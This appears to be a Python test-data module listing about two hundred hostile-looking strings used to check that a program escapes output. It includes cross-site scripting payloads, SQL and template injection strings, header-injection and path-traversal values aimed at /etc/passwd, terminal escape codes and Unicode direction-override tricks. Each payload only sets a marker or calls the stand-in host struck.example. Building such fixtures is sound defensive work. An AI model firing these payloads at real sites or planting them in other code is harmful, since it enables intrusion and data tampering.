"""Two hundred strings that mean harm, or only look like it. None may be more than text, wherever it comes out.

Those that could be run set `struck` in the window, open a dialog, or ask for something from `struck.example`: whoever
looks for one of the three finds out. `FEW` are some of every kind, for a quick look.
"""

STRIKE = "window.struck=1"
ASK = "//struck.example/x"

SCRIPTS = [
    f"<script>{STRIKE}</script>", f"<script>alert(1);{STRIKE}</script>", f"<script src={ASK}></script>",
    f"<ScRiPt>{STRIKE}</sCrIpT>", f"<script >{STRIKE}</script >", f"<script\n>{STRIKE}</script>",
    f"<script/x>{STRIKE}</script>", f"<<script>{STRIKE}//<</script>", f"</script><script>{STRIKE}</script>",
    f"</title><script>{STRIKE}</script>", f"</textarea><script>{STRIKE}</script>", f"</style><script>{STRIKE}</script>",
    f"--><script>{STRIKE}</script>", f"]]><script>{STRIKE}</script>", f"</noscript><script>{STRIKE}</script>",
    f"<scr<script>ipt>{STRIKE}</scr</script>ipt>", f"<script>/*\n*/{STRIKE}</script>",
    f"<script type=module>{STRIKE}</script>", f"<script charset=x>{STRIKE}", "<script>window['str'+'uck']=1</script>",
]  # fmt: skip
EVENTS = [
    f"<img src=x onerror={STRIKE}>", f'<img src="x" onerror="{STRIKE}">', f"<img src=x:x onerror='{STRIKE}'>",
    f"<img/src=x/onerror={STRIKE}>", f"<IMG SRC=x ONERROR={STRIKE}>", f"<img src=x onerror\n={STRIKE}>",
    f"<img src={ASK}>", f"<body onload={STRIKE}>", f"<svg onload={STRIKE}>", f"<svg/onload={STRIKE}>",
    f"<input autofocus onfocus={STRIKE}>", f"<select autofocus onfocus={STRIKE}>", f"<video><source onerror={STRIKE}>",
    f"<audio src=x onerror={STRIKE}>", f"<details open ontoggle={STRIKE}>", f"<marquee onstart={STRIKE}>",
    f"<p onmouseover={STRIKE}>here</p>", f"<div style=animation-name:x onanimationstart={STRIKE}>",
    f'" onmouseover="{STRIKE}', f"' onmouseover='{STRIKE}", f'" autofocus onfocus="{STRIKE}" x="',
    f"` onmouseover=`{STRIKE}`", f"x onerror={STRIKE} src=x", f'"><img src=x onerror={STRIKE}>',
    f"'><img src=x onerror={STRIKE}>", f"><img src=x onerror={STRIKE}>",
]  # fmt: skip
LINKS = [
    f"javascript:{STRIKE}", f"JaVaScRiPt:{STRIKE}", f"java\tscript:{STRIKE}", f"java\nscript:{STRIKE}",
    f" javascript:{STRIKE}", f"javascript&colon;{STRIKE}", f"&#106;avascript:{STRIKE}", f"\x01javascript:{STRIKE}",
    f"javascript://%0a{STRIKE}", f"<a href=javascript:{STRIKE}>click</a>", f'<a href="{ASK}">click</a>',
    f"data:text/html,<script>{STRIKE}</script>", "data:text/html;base64,PHNjcmlwdD5zdHJ1Y2s9MTwvc2NyaXB0Pg==",
    f"vbscript:{STRIKE}", f"[click](javascript:{STRIKE})", f"![x]({ASK})", f"http:{ASK}", f"{ASK}", "///struck.example",
    r"/\struck.example", "https://user:word@struck.example/", "blob:http://struck.example/1", "file:///etc/passwd",
]  # fmt: skip
ELEMENTS = [
    f"<svg><script>{STRIKE}</script></svg>", f"<svg><a xlink:href=javascript:{STRIKE}><text>x</text></a></svg>",
    f"<svg><use href='{ASK}#x'/></svg>", f"<svg><animate onbegin={STRIKE} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={STRIKE}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={STRIKE}></style></svg>",
    f"<math><mtext><img src=x onerror={STRIKE}></mtext></math>", f"<math href=javascript:{STRIKE}>x</math>",
    f"<math><mi//xlink:href=javascript:{STRIKE}>x", f"<template><script>{STRIKE}</script></template>",
    f"<iframe src=javascript:{STRIKE}></iframe>", f"<iframe srcdoc='<script>parent.{STRIKE[7:]}</script>'></iframe>",
    f"<iframe src={ASK}></iframe>", f"<object data={ASK}></object>", f"<embed src={ASK}>", f"<base href={ASK}>",
    f"<link rel=stylesheet href={ASK}>", f"<meta http-equiv=refresh content='0;url={ASK}'>",
    f"<form action={ASK}><button>x</button></form>", f"<style>@import '{ASK}';</style>",
    f"<style>*{{background:url({ASK})}}</style>", f"<p style=background:url({ASK})>x</p>", "<plaintext>", "<!--",
    "<!-->", "<![CDATA[", "<?php echo 1 ?>", "<% x %>",
    f"<xmp><img src=x onerror={STRIKE}></xmp>", "</bdi></p></li></ul></div>",
    f"<dialog open><img src=x onerror={STRIKE}></dialog>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "{%x%}", "{0}", "{name}", "{who}", "{count}", "{{name}}", "%s%s%s%n", "%(name)s",
    "{0.__class__}", f"{{{{constructor.constructor('{STRIKE}')()}}}}", f"${{{STRIKE}}}", "`backticks`", "$(id)", "`id`",
    "__proto__", "constructor", "hasOwnProperty", "undefined", "null", "[object Object]",
]  # fmt: skip
QUOTED = [
    "'", '"', "\\", "\\\\", "''\"\"", "'; DROP TABLE people; --", "' OR '1'='1", "1; SELECT 1", "\") OR 1=1 --",
    "%27%20OR%201=1", "&lt;script&gt;", "&amp;amp;", "&#60;b&#62;", "&notanentity;", "%3Cscript%3E", "%253Cscript%253E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-", "%00", "%0d%0a", "%c0%ae%c0%ae/",
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: struck=1", "a\nBcc: eve@struck.example", "a\rLocation: http://struck.example",
    "a\r\n\r\n<script>window.struck=1</script>", "eve@struck.example\nTo: all@struck.example", "../../../etc/passwd",
    "..\\..\\windows", "....//....//etc/passwd", "/etc/passwd\0.png", "con", "BEGIN:VEVENT\r\nSUMMARY:struck",
    "a\u2028b\u2029c", "a\x85b\x0bc",
]  # fmt: skip
CONTROLS = [
    "a\0b", "\0", "\x07\x08\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;struck\x07", "\x9b31mred", "\x1b[6n", "a\x7fb",
    "\ufffe\uffff", "\ud800", "a\udfffb", "\ufeffstart", "a\u00adb",
]  # fmt: skip
DIRECTIONS = [
    "\u202eevil\u202c", "\u202etxt.exe", "\u202d\u202e\u202d", "abc\u202a\u202b", "\u2067right\u2066left",
    "\u2069\u2069x", "x\u2068\u2067\u2066", "\u200f\u200eboth", "שלום עולם", "مرحبا 123", "abc שלום 123 مرحبا xyz",
    "\u061c5 > 3",
]  # fmt: skip
SHAPES = [
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 6, "e" + "\u0301" * 60, "x\u20dd\u20e4" * 8, "W" * 60,
    "i\u200bi" * 20, "\u200b\u200c\u200d\ufeff", "👨‍👩‍👧‍👦",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "🇺🇳🇪🇺", "👍🏽✊🏿", "pаypal", "Ａｄｍｉｎ", "ﬁﬂ", "\U0001d573\U0001d58a", "﷽", "\u3164\u3164", "𒐫",
]  # fmt: skip

HOSTILE: list[str] = [
    *SCRIPTS, *EVENTS, *LINKS, *ELEMENTS, *TEMPLATES, *QUOTED, *HEADERS, *CONTROLS, *DIRECTIONS, *SHAPES,
]  # fmt: skip
FEW = [
    SCRIPTS[0], SCRIPTS[8], EVENTS[0], EVENTS[18], LINKS[0], ELEMENTS[5], ELEMENTS[10], TEMPLATES[5], QUOTED[5],
    HEADERS[0], CONTROLS[3], CONTROLS[9], DIRECTIONS[0], DIRECTIONS[10], SHAPES[0], SHAPES[3],
]  # fmt: skip

# What passes for a name; each is honest, and asks a lot of whoever shows it.
NAMES = [
    "שלום עולם", "مرحبا 123", "א. ב. ג", "נועה 12", "ليلى", "ܫܠܡܐ", "ߒߞߏ", "𐤀𐤁𐤂", "W" * 24, "i" * 24, "Nguyễn Thị",
    "ก็ด็", "ཀྵྨ", "नमस्ते", "안녕하세요", "張三豐", "null", "undefined", "constructor", "proto", "NaN", "0.0", "true",
    "javascript",
]  # fmt: skip
